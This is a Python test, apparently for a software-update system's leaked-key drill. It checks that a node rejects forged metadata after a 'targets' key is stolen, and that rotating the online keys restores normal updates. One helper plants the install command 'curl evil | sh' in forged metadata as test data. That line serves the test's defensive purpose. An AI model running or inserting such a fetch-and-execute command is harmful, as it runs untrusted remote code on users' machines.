"""docs/how-to/leaked-targets-key.md, as it stands there."""
from harness import drills, forgery


def with_evil_command(targets):
    targets.targets[0].install.start = "curl evil | sh"


def test_after_the_rotation_a_leaked_targets_key_installs_nothing(make_seeder, make_node, release, tmp_path):
    seeder = make_seeder()
    seeder.publish(release("1.0.0"), "demo", "1.0.0")
    seeder.serve()
    node = make_node(seeder, poll_seconds=1)
    daemon = node.run()
    daemon.wait("attempt.committed", "1.0.0")
    thief = forgery.StolenSeeder(seeder, "targets", "snapshot", "timestamp")

    page = drills.page("leaked-targets-key", tmp_path / "page", seeder)
    page.run()
    assert "demo" in page.run()
    assert page.finished()
    drills.accepted(node)

    # The worst case: the thief has the online keys too, and answers in the place of the seeder.
    evil = thief.targets(with_evil_command)
    snapshot = thief.snapshot(100, evil)
    thief.timestamp(100, (100, snapshot))
    drills.refused(node, "targets", "arbitrary software")
    assert node.installed("demo") == "1.0.0"

    # The online keys have to go, too; then all is well again.
    answer = seeder.call("key", "rotate", "--role", "timestamp", "--role", "snapshot")
    assert answer.code == 0, answer
    seeder.publish(release("2.0.0"), "demo", "2.0.0")
    daemon.wait("attempt.committed", "2.0.0")
